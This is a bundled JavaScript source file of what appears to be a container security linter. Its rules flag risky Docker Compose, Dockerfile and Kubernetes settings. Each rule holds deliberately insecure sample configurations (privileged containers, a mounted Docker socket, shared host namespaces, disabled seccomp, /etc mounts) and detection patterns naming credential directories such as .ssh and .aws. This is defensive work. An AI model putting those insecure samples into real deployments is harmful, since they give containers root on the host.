;// CONCATENATED MODULE: ./lib/documents/kubernetes-volumes.js




/** Paths of the node that an object's pods mount, or that a persistent volume stands for. */
function hostPathsOf(resource) {
    if (resource.kind === 'PersistentVolume')
        return hostPathOf(resource.name, resource.at('spec', 'hostPath'));
    const pods = [(0,kubernetes_pod/* podOf */.F)(resource.root, resource.group, resource.kind), ...(0,kubernetes_pipelines/* podsOfPipeline */.e)(resource)];
    return pods
        .flatMap((pod) => (0,yaml_values/* mapsIn */.nf)(pod?.spec.at('volumes')))
        .flatMap((volume) => hostPathOf(volume.at('name')?.string ?? '', volume.at('hostPath')));
}
function hostPathOf(name, hostPath) {
    if ((0,yaml_values/* isUnset */.K$)(hostPath))
        return [];
    const node = hostPath.at('path') ?? hostPath;
    const path = node.kind !== 'scalar' ? null : node.templated ? templateDefault(node.string) : node.string;
    return [{ name, node, path: path?.startsWith('/') ? normalizePath(path) : null }];
}
/** Where the containers of a workload mount its volumes, by the volume's name. */
function mountsOf(workload) {
    const mounts = new Map();
    for (const container of workload.containers) {
        for (const node of (0,yaml_values/* mapsIn */.nf)(container.at('volumeMounts'))) {
            const name = node.at('name')?.string ?? '';
            const others = mounts.get(name);
            if (others === undefined)
                mounts.set(name, [{ container, node }]);
            else
                others.push({ container, node });
        }
    }
    return mounts;
}
function normalizePath(path) {
    const parts = [];
    for (const part of path.split('/')) {
        if (part === '..')
            parts.pop();
        else if (part !== '' && part !== '.')
            parts.push(part);
    }
    return `/${parts.join('/')}`;
}
/** By path segments: `/etc` holds `/etc/ssl`, not `/etcd`. */
const isWithin = (path, directory) => path === directory || path.startsWith(directory === '/' ? '/' : `${directory}/`);

;// CONCATENATED MODULE: ./lib/documents/compose-paths.js

const sockets = /(?:^|[/\\])(?:docker|dockershim|cri-dockerd|containerd|podman|crio|buildkitd)\.sock$|[/\\]pipe[/\\](?:docker_engine|containerd)/i;
/** A Unix socket or Windows pipe of Docker, containerd, Podman, CRI-O or BuildKit. */
const isRuntimeSocket = (path) => sockets.test(path);
/** With everything below them: credentials, programs, kernel interfaces. */
const system = [
    ...['/bin', '/boot', '/etc', '/lib', '/lib32', '/lib64', '/proc', '/root', '/run', '/sbin', '/sys', '/usr'],
    ...['/var/run', '/var/lib/containerd', '/var/lib/containers', '/var/lib/docker', '/var/lib/kubelet'],
];
/** Only themselves: what lies below them is mostly somebody's own. */
const parents = new Set(['/', '/dev', '/home', '/media', '/mnt', '/opt', '/srv', '/var', '/var/lib', '/var/log']);
/** The state of one service or user, or one device: worth a look. */
const partly = ['/dev', '/home', '/var'];
/** Clock and certificates say nothing about a host; the devices are everybody's, or shown on purpose. */
const harmless = [
    ...['/etc/localtime', '/etc/timezone', '/etc/ssl/certs', '/etc/pki/tls/certs', '/etc/ca-certificates', '/etc/os-release'],
    ...['/usr/share/zoneinfo', '/usr/share/ca-certificates', '/usr/local/share/ca-certificates', '/lib/modules'],
    ...['/dev/null', '/dev/zero', '/dev/random', '/dev/urandom', '/dev/shm', '/dev/dri', '/dev/snd', '/dev/net/tun', '/dev/fuse'],
    ...['/tmp/.X11-unix', '/var/www', '/run/user'],
];
/** The home directory, and in it what programs log in with; with the hosts that ssh knows, its settings and public keys nobody does. */
const home = /^(?:~|\$HOME|\$\{HOME\})[/\\]?(?:$|\.(?:aws|azure|docker|gnupg|kube|ssh|config[/\\]gcloud)(?:[/\\]|$))/;
const harmlessAtHome = /\.ssh[/\\](?:known_hosts|config|[^/\\]+\.pub)$/;
/** How grave a bind mount of the host's path is, or null. */
function hostPathRisk(source, readOnly) {
    if (home.test(source) && !harmlessAtHome.test(source))
        return 'high';
    if (!source.startsWith('/'))
        return null;
    const path = normalizePath(source);
    if (harmless.some((known) => isWithin(path, known)))
        return null;
    // What monitors the host reads these; writing to them is another thing.
    if (readOnly && (isWithin(path, '/proc') || isWithin(path, '/sys')))
        return 'medium';
    if (parents.has(path) || system.some((directory) => isWithin(path, directory)))
        return 'high';
    return partly.some((directory) => isWithin(path, directory)) ? 'medium' : null;
}

;// CONCATENATED MODULE: ./lib/rules/compose/docker-socket-mount.js




/* harmony default export */ const docker_socket_mount = ((0,rule/* defineRule */.Km)({
    id: 'compose/docker-socket-mount',
    severity: 'critical',
    threat: 'runtime',
    summary: "A service is given the container runtime's socket",
    why: 'Whoever can speak to the socket can start a privileged container: read-only or not, it is root on the host.',
    instead: 'Give the service a proxy that lets through only the calls that it needs, or run it without the socket.',
    references: [composeService('volumes'), cwe(250), attack('T1610')],
    peers: ['kics:docker_socket_mounted_in_container', 'semgrep:exposing-docker-socket-volume'],
    bad: 'services:\n  agent:\n    image: registry.example/agent:1.4\n    volumes:\n      - /var/run/docker.sock:/var/run/docker.sock:ro\n',
    good: 'services:\n  agent:\n    image: registry.example/agent:1.4\n    environment:\n      DOCKER_HOST: tcp://socket-proxy:2375\n',
    on: 'composeService',
    *check(service) {
        for (const { type, source, target, span } of service.volumes) {
            if (type !== 'bind' && type !== 'npipe')
                continue;
            const socket = [source, target].find((path) => path !== null && isRuntimeSocket(path));
            if (socket)
                yield { at: { span }, message: `service "${service.name}" is given the runtime's socket "${socket}"` };
        }
        const api = service.own('use_api_socket');
        if (api && (0,compose_interpolate/* readBoolean */.Vf)(api, service.document) === true)
            yield { at: api, message: `service "${service.name}" is given Docker's socket by "use_api_socket"` };
    },
}));

;// CONCATENATED MODULE: ./lib/rules/compose/host-ipc.js



/* harmony default export */ const host_ipc = ((0,rule/* defineRule */.Km)({
    id: 'compose/host-ipc',
    severity: 'high',
    threat: 'runtime',
    summary: 'A service shares the memory segments of its host',
    why: 'It can read and write the shared memory of programs of the host.',
    instead: 'Remove `ipc`, or share the namespace of one service by `service:name`.',
    references: [composeService('ipc'), cwe(653), attack('T1611')],
    peers: ['kics:shared_host_ipc_namespace'],
    bad: 'services:\n  web:\n    image: registry.example/web:1.4\n    ipc: host\n',
    good: 'services:\n  web:\n    image: registry.example/web:1.4\n',
    on: 'composeService',
    *check(service) {
        const mode = service.text('ipc');
        if (mode?.value !== 'host')
            return;
        const fix = (0,rule/* unsafeFix */.ed)('Remove `ipc: host`', removeAt(service.document.text, service.node, ['ipc']));
        yield { at: mode, message: `service "${service.name}" has "ipc: host"`, fix };
    },
}));

;// CONCATENATED MODULE: ./lib/rules/compose/host-network.js



/* harmony default export */ const host_network = ((0,rule/* defineRule */.Km)({
    id: 'compose/host-network',
    severity: 'high',
    threat: 'container',
    summary: 'A service shares the network of its host',
    why: 'It reaches every service that listens on the host for itself only, sees the traffic of all others, and no network of Compose holds it.',
    instead: 'Publish the ports that are needed, and connect services by networks.',
    references: [composeService('network_mode'), cwe(653), attack('T1611')],
    peers: ['kics:shared_host_network_namespace'],
    bad: 'services:\n  web:\n    image: registry.example/web:1.4\n    network_mode: host\n',
    good: 'services:\n  web:\n    image: registry.example/web:1.4\n',
    on: 'composeService',
    *check(service) {
        for (const { node, external } of service.networks)
            if (external === 'host')
                yield { at: node, message: `service "${service.name}" is on the network "host"` };
        const mode = service.text('network_mode');
        if (mode?.value !== 'host')
            return;
        const fix = (0,rule/* unsafeFix */.ed)('Remove `network_mode: host`', removeAt(service.document.text, service.node, ['network_mode']));
        yield { at: mode, message: `service "${service.name}" has "network_mode: host"`, fix };
    },
}));

;// CONCATENATED MODULE: ./lib/rules/compose/host-pid.js



/* harmony default export */ const host_pid = ((0,rule/* defineRule */.Km)({
    id: 'compose/host-pid',
    severity: 'high',
    threat: 'runtime',
    summary: 'A service sees the processes of its host',
    why: 'It can read the memory, environment and files of every process of the host, and stop them.',
    instead: 'Remove `pid`, or share the namespace of one service by `service:name`.',
    references: [composeService('pid'), cwe(653), attack('T1611')],
    peers: ['kics:host_namespace_is_shared'],
    bad: 'services:\n  web:\n    image: registry.example/web:1.4\n    pid: host\n',
    good: 'services:\n  web:\n    image: registry.example/web:1.4\n',
    on: 'composeService',
    *check(service) {
        const mode = service.text('pid');
        if (mode?.value !== 'host')
            return;
        const fix = (0,rule/* unsafeFix */.ed)('Remove `pid: host`', removeAt(service.document.text, service.node, ['pid']));
        yield { at: mode, message: `service "${service.name}" has "pid: host"`, fix };
    },
}));

;// CONCATENATED MODULE: ./lib/rules/compose/host-user-namespace.js



/* harmony default export */ const host_user_namespace = ((0,rule/* defineRule */.Km)({
    id: 'compose/host-user-namespace',
    severity: 'high',
    threat: 'runtime',
    summary: 'A service is taken out of the user namespace',
    why: 'Where the Docker daemon maps users, root in this container is root on the host again.',
    instead: 'Remove `userns_mode`.',
    references: [composeService('userns_mode'), cwe(653), attack('T1611')],
    peers: ['kics:shared_host_user_namespace'],
    bad: 'services:\n  web:\n    image: registry.example/web:1.4\n    userns_mode: host\n',
    good: 'services:\n  web:\n    image: registry.example/web:1.4\n',
    on: 'composeService',
    *check(service) {
        const mode = service.text('userns_mode');
        if (mode?.value !== 'host')
            return;
        const fix = (0,rule/* unsafeFix */.ed)('Remove `userns_mode: host`', removeAt(service.document.text, service.node, ['userns_mode']));
        yield { at: mode, message: `service "${service.name}" has "userns_mode: host"`, fix };
    },
}));

;// CONCATENATED MODULE: ./lib/rules/compose/memory-limit-missing.js




const paths = [['deploy', 'resources', 'limits', 'memory'], ['mem_limit']];
const limitOf = (service) => paths.map((path) => service.at(...path)).find((limit) => limit !== undefined);
/* harmony default export */ const memory_limit_missing = ((0,rule/* defineRule */.Km)({
    id: 'compose/memory-limit-missing',
    severity: 'low',
    strict: true,
    threat: 'runtime',
    summary: 'A service has no memory limit',
    why: 'One service can take the memory of all others, and of the host.',
    instead: 'Set `deploy.resources.limits.memory` or `mem_limit`.',
    references: [
        docker('reference/compose-file/deploy/#resources', 'Compose deploy specification, resources'),
        composeService('mem_limit'),
        cwe(770),
    ],
    peers: ['kics:memory_not_limited'],
    bad: 'services:\n  web:\n    image: registry.example/web:1.4\n',
    good: 'services:\n  web:\n    image: registry.example/web:1.4\n    mem_limit: 256m\n',
    on: 'composeService',
    guard: limitOf,
    *check(service) {
        const limit = limitOf(service);
        // A zero of an extended service is told of that one.
        const isNone = paths.some((path) => limit && service.own(...path) === limit) && /^0+[a-z]*$/i.test((0,compose_interpolate/* readText */.yR)(limit, service.document) ?? '');
        if (limit ? !isNone : service.partial)
            return;
        yield {
            at: limit ?? service.anchor,
            field: 'mem_limit',
            message: `service "${service.name}" has no memory limit`,
            fix: (0,rule/* unsafeFix */.ed)('Limit it to 512 MiB', setAt(service.document.text, service.node, ['mem_limit'], '512m')),
        };
    },
}));

;// CONCATENATED MODULE: ./lib/rules/compose/mount-propagation-shared.js


/* harmony default export */ const mount_propagation_shared = ((0,rule/* defineRule */.Km)({
    id: 'compose/mount-propagation-shared',
    severity: 'medium',
    threat: 'runtime',
    summary: 'Mounts pass between a service and its host',
    why: 'With `shared`, what the container mounts appears on the host; with `slave`, all that the host mounts there later appears in the container.',
    instead: 'Remove the propagation: the default is `rprivate`.',
    references: [docker('engine/storage/bind-mounts/#configure-bind-propagation', 'bind propagation'), composeService('volumes'), cwe(668)],
    peers: ['kics:volume_mounted_in_multiple_containers'],
    bad: 'services:\n  web:\n    image: registry.example/web:1.4\n    volumes:\n      - type: bind\n        source: ./data\n        target: /data\n        bind:\n          propagation: shared\n',
    good: 'services:\n  web:\n    image: registry.example/web:1.4\n    volumes:\n      - type: bind\n        source: ./data\n        target: /data\n',
    on: 'composeService',
    *check(service) {
        for (const { node, propagation, source } of service.volumes) {
            if (propagation === null || !/^r?(?:shared|slave)$/.test(propagation))
                continue;
            yield {
                at: node.at('bind', 'propagation') ?? node,
                identity: `${source} ${propagation}`,
                message: `mounts below "${source}" pass between service "${service.name}" and the host ("${propagation}")`,
            };
        }
    },
}));

;// CONCATENATED MODULE: ./lib/rules/compose/no-new-privileges-missing.js



/** Docker takes it with `:` or `=`, and alone. */
const isSet = /^no-new-privileges(?:[:=]true)?$/;
/* harmony default export */ const no_new_privileges_missing = ((0,rule/* defineRule */.Km)({
    id: 'compose/no-new-privileges-missing',
    severity: 'low',
    strict: true,
    threat: 'runtime',
    summary: 'A service may gain privileges',
    why: 'A set-user-ID program in the image can make root of any user in the container.',
    instead: 'Add `no-new-privileges:true` to `security_opt`.',
    references: [composeService('security_opt'), cwe(250)],
    peers: ['kics:no_new_privileges_not_set', 'semgrep:no-new-privileges'],
    bad: 'services:\n  web:\n    image: registry.example/web:1.4\n',
    good: 'services:\n  web:\n    image: registry.example/web:1.4\n    security_opt:\n      - no-new-privileges:true\n',
    on: 'composeService',
    guard: (service) => service.allItems('security_opt').find((option) => isSet.test(option.string ?? '')),
    *check(service) {
        const options = service.allItems('security_opt');
        if (service.partial || options.some((option) => isSet.test(option.string ?? '') || option.string?.includes('$')))
            return;
        const { text } = service.document;
        const own = service.node.at('security_opt');
        const value = 'no-new-privileges:true';
        const edit = own?.kind === 'sequence' ? appendItem(text, own, value) : setAt(text, service.node, ['security_opt'], [value]);
        yield {
            at: service.anchor,
            field: 'security_opt',
            message: `service "${service.name}" may gain privileges: "no-new-privileges" is not set`,
            fix: (0,rule/* unsafeFix */.ed)('Set `no-new-privileges`', edit),
        };
    },
}));

;// CONCATENATED MODULE: ./lib/rules/compose/pids-limit-missing.js




const pids_limit_missing_paths = [['pids_limit'], ['deploy', 'resources', 'limits', 'pids']];
const pids_limit_missing_limitOf = (service) => pids_limit_missing_paths.map((path) => service.at(...path)).find((limit) => limit !== undefined);
/* harmony default export */ const pids_limit_missing = ((0,rule/* defineRule */.Km)({
    id: 'compose/pids-limit-missing',
    severity: 'low',
    strict: true,
    threat: 'runtime',
    summary: 'A service may start any number of processes',
    why: 'A fork bomb in it takes the whole host down.',
    instead: 'Set `pids_limit` or `deploy.resources.limits.pids`.',
    references: [composeService('pids_limit'), cwe(770)],
    peers: ['kics:pids_limit_not_set'],
    bad: 'services:\n  web:\n    image: registry.example/web:1.4\n',
    good: 'services:\n  web:\n    image: registry.example/web:1.4\n    pids_limit: 200\n',
    on: 'composeService',
    guard: pids_limit_missing_limitOf,
    *check(service) {
        const limit = pids_limit_missing_limitOf(service);
        // A zero of an extended service is told of that one.
        const isNone = pids_limit_missing_paths.some((path) => limit && service.own(...path) === limit) && /^(?:-1|0)$/.test((0,compose_interpolate/* readText */.yR)(limit, service.document) ?? '');
        if (limit ? !isNone : service.partial)
            return;
        yield {
            at: limit ?? service.anchor,
            field: 'pids_limit',
            message: `service "${service.name}" has no limit on its processes`,
            fix: (0,rule/* unsafeFix */.ed)('Limit it to 200', setAt(service.document.text, service.node, ['pids_limit'], 200)),
        };
    },
}));

;// CONCATENATED MODULE: ./lib/rules/compose/port-on-all-interfaces.js


/** Databases, caches, queues, and ways to administer: what should answer only to its own application. */
const internal = [
    ...[22, 23, 2375, 2376, 3389, 5900, 10250, 15672],
    ...[1433, 1521, 2379, 3306, 5432, 5984, 6379, 7474, 7687, 8086, 8123, 9042, 9200, 9300, 11211, 26257, 27017, 27018, 27019, 28015],
];
const everywhere = /^(?:0\.0\.0\.0|\[?::\]?)$/;
/* harmony default export */ const port_on_all_interfaces = ((0,rule/* defineRule */.Km)({
    id: 'compose/port-on-all-interfaces',
    severity: 'medium',
    threat: 'container',
    strictly: 'every such port; else only those of databases and of ways to administer.',
    summary: 'A port is published on all interfaces of the host',
    why: "Docker opens it past the host's firewall: whoever reaches the host reaches the service.",
    instead: 'Publish it on one address (`127.0.0.1:5432:5432`), or not at all: services of one network reach each other without.',
    references: [composeService('ports'), docker('engine/network/packet-filtering-firewalls/', 'packet filtering and firewalls'), cwe(668)],
    peers: ['kics:container_traffic_not_bound_to_host_interface', 'dclint:no-unbound-port-interfaces'],
    bad: 'services:\n  database:\n    image: postgres:18.1\n    ports:\n      - 5432:5432\n',
    good: 'services:\n  database:\n    image: postgres:18.1\n    ports:\n      - 127.0.0.1:5432:5432\n',
    on: 'composeService',
    *check(service, { strict }) {
        for (const { node, address, published, target, lastTarget } of service.ports) {
            // Of the long form without `published` nothing is published.
            if (node.kind === 'map' && published === null)
                continue;
            const isInternal = internal.some((port) => port >= (target ?? port + 1) && port <= (lastTarget ?? 0));
            // Who writes all interfaces out for a port that is meant for others has decided so.
            const isOpen = address === null || (isInternal && everywhere.test(address));
            if (!isOpen || (!isInternal && !strict))
                continue;
            const port = lastTarget === target ? (target ?? '') : `${target}-${lastTarget}`;
            yield {
                at: node,
                // The short and the long form say the same.
                identity: [address?.replace(/^\[|\]$/g, '') ?? null, published, port].filter((part) => part !== null).join(':'),
                severity: isInternal ? 'medium' : 'low',
                message: `port ${port} of service "${service.name}" is published on all interfaces of the host`.replace('  ', ' '),
                fix: address === null && published !== null && node.kind === 'scalar'
                    ? localFix(node.span.start, service.document.text.value)
                    : undefined,
            };
        }
    },
}));
/** Written in front of the ports, behind a quote. */
function localFix(start, text) {
    const at = /["']/.test(text[start] ?? '') ? start + 1 : start;
    return { title: 'Publish it on 127.0.0.1 only', safe: false, edits: [{ span: { start: at, end: at }, text: '127.0.0.1:' }] };
}

;// CONCATENATED MODULE: ./lib/rules/compose/privileged.js




/* harmony default export */ const privileged = ((0,rule/* defineRule */.Km)({
    id: 'compose/privileged',
    severity: 'critical',
    threat: 'runtime',
    summary: 'A service runs privileged',
    why: 'A privileged container has every capability and every device of the host: one exploit in it owns the host.',
    instead: 'Remove `privileged`, and add the one capability or device that is needed.',
    references: [composeService('privileged'), cwe(250), attack('T1611')],
    peers: ['kics:privileged_containers_enabled', 'semgrep:privileged-service'],
    bad: 'services:\n  web:\n    image: registry.example/web:1.4\n    privileged: true\n',
    good: 'services:\n  web:\n    image: registry.example/web:1.4\n    cap_add: [NET_BIND_SERVICE]\n',
    on: 'composeService',
    *check(service) {
        const isTrue = (node) => (0,compose_interpolate/* readBoolean */.Vf)(node, service.document) === true;
        for (const path of [['privileged'], ['build', 'privileged']]) {
            const privileged = service.own(...path);
            if (!isTrue(privileged))
                continue;
            const fix = (0,rule/* unsafeFix */.ed)('Remove `privileged`', removeAt(service.document.text, service.node, path));
            yield {
                at: privileged,
                field: path.join('.'),
                message: `service "${service.name}" is ${path.length > 1 ? 'built' : 'run'} privileged`,
                fix,
            };
        }
        for (const entitlement of service.items('build', 'entitlements')) {
            if ((0,compose_interpolate/* readText */.yR)(entitlement, service.document) === 'security.insecure')
                yield { at: entitlement, message: `service "${service.name}" may be built privileged ("security.insecure")` };
        }
        for (const hook of [...service.items('post_start'), ...service.items('pre_stop')]) {
            const privileged = hook.at('privileged');
            if (isTrue(privileged))
                yield { at: privileged, message: `a hook of service "${service.name}" runs privileged` };
        }
    },
}));

;// CONCATENATED MODULE: ./lib/rules/compose/seccomp-disabled.js



/* harmony default export */ const seccomp_disabled = ((0,rule/* defineRule */.Km)({
    id: 'compose/seccomp-disabled',
    severity: 'high',
    threat: 'runtime',
    summary: 'A service runs without a seccomp profile',
    why: 'It may make every system call of the kernel, those too through which containers were left before.',
    instead: 'Remove the option, or name a profile of your own that lets through what is needed.',
    references: [composeService('security_opt'), docker('engine/security/seccomp/', 'seccomp profiles'), cwe(693)],
    peers: ['kics:default_seccomp_profile_disabled', 'semgrep:seccomp-confinement-disabled'],
    bad: 'services:\n  web:\n    image: registry.example/web:1.4\n    security_opt:\n      - seccomp:unconfined\n',
    good: 'services:\n  web:\n    image: registry.example/web:1.4\n    security_opt:\n      - no-new-privileges:true\n',
    on: 'composeService',
    *check(service) {
        for (const { option, identity, removal } of securityOptions(service, /^seccomp\s*[:=]\s*unconfined$/i))
            yield {
                at: option,
                identity,
                message: `service "${service.name}" has "${option.string}"`,
                fix: (0,rule/* unsafeFix */.ed)('Remove the option', removal),
            };
    },
}));

;// CONCATENATED MODULE: ./lib/rules/compose/selinux-disabled.js



/* harmony default export */ const selinux_disabled = ((0,rule/* defineRule */.Km)({
    id: 'compose/selinux-disabled',
    severity: 'high',
    threat: 'runtime',
    summary: 'A service runs without SELinux separation',
    why: 'The label keeps the container from files of the host and of other containers, even where it gets out.',
    instead: 'Remove the option; for a mounted folder, let Docker label it with `:z` or `:Z`.',
    references: [composeService('security_opt'), docker('reference/cli/docker/container/run/#security-opt', 'security options'), cwe(693)],
    peers: ['semgrep:selinux-separation-disabled'],
    bad: 'services:\n  web:\n    image: registry.example/web:1.4\n    security_opt:\n      - label:disable\n',
    good: 'services:\n  web:\n    image: registry.example/web:1.4\n    security_opt:\n      - no-new-privileges:true\n',
    on: 'composeService',
    *check(service) {
        for (const { option, identity, removal } of securityOptions(service, /^label\s*[:=]\s*(?:disable|type:spc_t)$/i))
            yield {
                at: option,
                identity,
                message: `service "${service.name}" has "${option.string}"`,
                fix: (0,rule/* unsafeFix */.ed)('Remove the option', removal),
            };
    },
}));

;// CONCATENATED MODULE: ./lib/rules/compose/sensitive-host-path.js



/* harmony default export */ const sensitive_host_path = ((0,rule/* defineRule */.Km)({
    id: 'compose/sensitive-host-path',
    severity: 'high',
    threat: 'runtime',
    summary: 'A service mounts a system directory of its host',
    why: "The host's credentials, programs and kernel interfaces lie there: reading them is a way into the host, writing them is the host itself.",
    instead: 'Use a named volume, a config or a secret, or mount only the folder that is needed.',
    references: [composeService('volumes'), cwe(668), attack('T1611')],
    peers: ['kics:volume_has_sensitive_host_directory'],
    bad: 'services:\n  web:\n    image: registry.example/web:1.4\n    volumes:\n      - /etc:/host/etc\n',
    good: 'services:\n  web:\n    image: registry.example/web:1.4\n    volumes:\n      - ./etc:/etc/web\n      - /etc/localtime:/etc/localtime:ro\n',
    on: 'composeService',
    *check(service) {
        for (const { type, source, readOnly, span } of service.volumes) {
            if (type !== 'bind' || source === null || isRuntimeSocket(source))
                continue;
            const severity = hostPathRisk(source, readOnly);
            if (severity)
                yield { at: { span }, severity, message: `service "${service.name}" mounts "${source}" of the host` };
        }
    },
}));

;// CONCATENATED MODULE: ./lib/rules/compose/writable-root-filesystem.js




/* harmony default export */ const writable_root_filesystem = ((0,rule/* defineRule */.Km)({
    id: 'compose/writable-root-filesystem',
    severity: 'low',
    strict: true,
    threat: 'immutability',
    summary: 'A service can write to its own file system',
    why: 'Whoever breaks in can put programs there and change those of the image.',
    instead: 'Set `read_only: true`, and give `tmpfs` or volumes to the paths that are written.',
    references: [composeService('read_only'), attack('T1565')],
    peers: ['semgrep:writable-filesystem-service'],
    bad: 'services:\n  web:\n    image: registry.example/web:1.4\n',
    good: 'services:\n  web:\n    image: registry.example/web:1.4\n    read_only: true\n',
    on: 'composeService',
    guard: (service) => service.at('read_only'),
    *check(service) {
        const value = service.at('read_only');
        const isUnknown = value ? (0,compose_interpolate/* readText */.yR)(value, service.document) === undefined : service.partial;
        const isInherited = value !== undefined && service.own('read_only') !== value;
        if (isUnknown || isInherited || (0,compose_interpolate/* readBoolean */.Vf)(value, service.document) === true)
            return;
        yield {
            at: value ?? service.anchor,
            field: 'read_only',
            message: `the file system of service "${service.name}" is writable`,
            fix: (0,rule/* unsafeFix */.ed)('Make it read-only', setAt(service.document.text, service.node, ['read_only'], true)),
        };
    },
}));

;// CONCATENATED MODULE: ./lib/rules/cve/git-repo-volume.js



/* harmony default export */ const git_repo_volume = ((0,rule/* defineRule */.Km)({
    id: 'cve/git-repo-volume',
    severity: 'high',
    threat: 'cve',
    summary: 'A pod has its node clone a repository',
    why: 'The kubelet runs `git clone` as root on the node: a repository with hooks runs its code there (CVE-2024-10220), and one with a path of the node copies what lies in it (CVE-2025-1767, which has no fix).',
    instead: 'Clone in an init container into an `emptyDir`, or build the files into the image.',
    references: [
        cve('CVE-2024-10220'),
        cve('CVE-2025-1767'),
        kubernetes('concepts/storage/volumes/#gitrepo', 'gitRepo volumes'),
        attack('T1611'),
    ],
    peers: ['gatekeeper:volumes', 'kyverno:restrict-volume-types'],
    bad: `
apiVersion: v1
kind: Pod
metadata:
  name: web
spec:
  containers:
    - name: web
      image: registry.example/web:1.4
      volumeMounts:
        - name: pages
          mountPath: /srv
  volumes:
    - name: pages
      gitRepo:
        repository: https://git.example/pages.git
        directory: .
`,
    good: `
apiVersion: v1
kind: Pod
metadata:
  name: web
spec:
  containers:
    - name: web
      image: registry.example/web:1.4
      volumeMounts:
        - name: pages
          mountPath: /srv
  volumes:
    - name: pages
      emptyDir: {}
`,
    supersedes: ['k8s/volume-types-restricted'],
    on: 'workload',
    *check(workload) {
        for (const volume of (0,yaml_values/* mapsIn */.nf)(workload.at('volumes'))) {
            const gitRepo = volume.at('gitRepo');
            if (gitRepo?.kind !== 'map')
                continue;
            const message = `volume "${volume.at('name')?.string ?? ''}" is cloned by the node, as root`;
            yield { at: gitRepo.at('repository') ?? gitRepo, message };
        }
    },
}));

;// CONCATENATED MODULE: ./lib/rules/dockerfile/add-instead-of-copy.js


const remote = /^(?:\w+:\/\/|git@)/;
const archive = /\.(?:tar|tgz|tbz2?|txz|tzst|gz|bz2|xz|zst|Z|lzma)$/i;
/* harmony default export */ const add_instead_of_copy = ((0,rule/* defineRule */.Km)({
    id: 'dockerfile/add-instead-of-copy',
    severity: 'low',
    strict: true,
    threat: 'immutability',
    summary: 'ADD copies what COPY could',
    why: 'ADD also unpacks archives and fetches addresses: what it does depends on what the file happens to be.',
    instead: 'Use COPY for files and folders.',
    references: [docker('build/building/best-practices/#add-or-copy', 'ADD or COPY')],
    peers: [
        'hadolint:DL3020',
        'checkov:CKV_DOCKER_4',
        'trivy:DS-0005',
        'kics:add_instead_of_copy',
        'semgrep:prefer-copy-over-add',
        'dockle:CIS-DI-0009',
    ],
    bad: 'FROM debian:13.1\nADD app /app\nUSER 1000\n',
    good: 'FROM debian:13.1\nCOPY app /app\nADD files.tar.gz /opt/\nUSER 1000\n',
    on: 'instruction',
    *check({ keyword, keywordSpan, words, heredocs, flags }) {
        const sources = words.slice(0, -1);
        if (keyword !== 'ADD' || (sources.length === 0 && heredocs.length === 0))
            return;
        if (sources.some(({ value }) => remote.test(value) || archive.test(value) || /[*?[$]/.test(value)))
            return;
        if (flags.some(({ name }) => name === 'checksum' || name === 'keep-git-dir' || name === 'unpack'))
            return;
        const fix = (0,rule/* safeFix */.bS)('Use COPY', { span: keywordSpan, text: 'COPY' });
        yield { at: { span: keywordSpan }, identity: '', field: sources[0]?.value ?? '', message: 'ADD copies what COPY could', fix };
    },
}));

;// CONCATENATED MODULE: ./lib/documents/without-versions.js
/** A version, a date, a build's number, a commit. */
const version = /\b(?=[a-f]*\d)[0-9a-f]{7,}\b|\bv?\d[\w.+-]*/gi;
const address = /(\w+:\/\/[^/\s"'<>|;&)]+)([^\s"'<>|;&)]*)/g;
/**
 * The addresses in a text without the versions in their paths, else the whole text without versions: what stays when only a
 * version is raised, or the address is asked for by https. A host keeps its numbers.
 */
function withoutVersions(text) {
    const addresses = [...text.matchAll(address)].map(([, host = '', path = '']) => host.replace(/^http:/i, 'https:') + path.replace(version, '#'));
    return addresses.length > 0 ? addresses.join(' ') : text.replace(version, '#');
}

;// CONCATENATED MODULE: ./lib/rules/dockerfile/add-remote.js



const add_remote_remote = /^(?:https?:\/\/|git@|git:\/\/|ssh:\/\/)/i;
const commit = /#[0-9a-f]{40}(?::|$)|[?&](?:commit|checksum)=[0-9a-f]{40}(?:&|$)/i;
/* harmony default export */ const add_remote = ((0,rule/* defineRule */.Km)({
    id: 'dockerfile/add-remote',
    severity: 'medium',
    threat: 'immutability',
    summary: 'ADD fetches a remote file without a checksum',
    why: 'What lies at the address can change between two builds, and nobody sees it.',
    instead: 'Add `--checksum=sha256:…`, or the full commit for a Git repository.',
    references: [docker('reference/dockerfile/#add---checksum', 'ADD --checksum'), cwe(494), attack('T1195.002')],
    peers: ['checkov:CKV_DOCKER_4'],
    bad: 'FROM debian:13.1\nADD https://example.com/tool.tar.gz /opt/\nUSER 1000\n',
    good: 'FROM debian:13.1\nADD --checksum=sha256:0f5b6b5c0d9d8a2e4a1f3d7b9c1e2f3a4b5c6d7e8f90a1b2c3d4e5f60718293a https://example.com/tool.tar.gz /opt/\nUSER 1000\n',
    on: 'instruction',
    *check(instruction) {
        if (instruction.keyword !== 'ADD' || instruction.flags.some(({ name }) => name === 'checksum'))
            return;
        for (const source of instruction.words.slice(0, -1)) {
            const { value } = instruction.expand(source.span);
            if (add_remote_remote.test(value) && !commit.test(value))
                yield { at: source, identity: withoutVersions(value), message: `ADD fetches "${source.value}" without a checksum` };
        }
    },
}));

// EXTERNAL MODULE: ./lib/documents/dockerfile-commands.js
var dockerfile_commands = __webpack_require__(2169);
;// CONCATENATED MODULE: ./lib/rules/dockerfile/docker-socket-mount.js




/** The source of `-v SOURCE:TARGET` and `--mount type=bind,source=SOURCE`. */
const sourceOf = (text) => /(?:^|,)(?:source|src)=([^,]+)/.exec(text)?.[1] ?? text.replace(/^-[a-z]*v|^--volume=/, '').split(':')[0] ?? '';
/* harmony default export */ const dockerfile_docker_socket_mount = ((0,rule/* defineRule */.Km)({
    id: 'dockerfile/docker-socket-mount',
    severity: 'high',
    threat: 'runtime',
    summary: "A container is started with the runtime's socket",
    why: 'Whoever can speak to the socket can start a privileged container: it is root on the host.',
    instead: 'Build without the socket: with a multi-stage build, with `buildctl`, or with a rootless builder.',
    references: [docker('engine/security/protect-access/', 'protect the Docker daemon socket'), cwe(250), attack('T1610')],
    peers: ['semgrep:dockerfile-dockerd-socket-mount'],
    bad: 'FROM docker:28.5.1\nRUN docker run -v /var/run/docker.sock:/var/run/docker.sock registry.example/agent:1.4\nUSER 1000\n',
    good: 'FROM docker:28.5.1\nRUN docker run registry.example/agent:1.4\nUSER 1000\n',
    on: 'instruction',
    *check(instruction) {
        if (instruction.keyword === 'VOLUME')
            for (const word of instruction.words)
                if (isRuntimeSocket(word.value))
                    yield { at: word, message: `the volume "${word.value}" is a runtime's socket` };
        for (const { name, args } of (0,dockerfile_commands/* invocations */.O)(instruction)) {
            if (!['docker', 'podman', 'nerdctl'].includes(name))
                continue;
            for (const word of args)
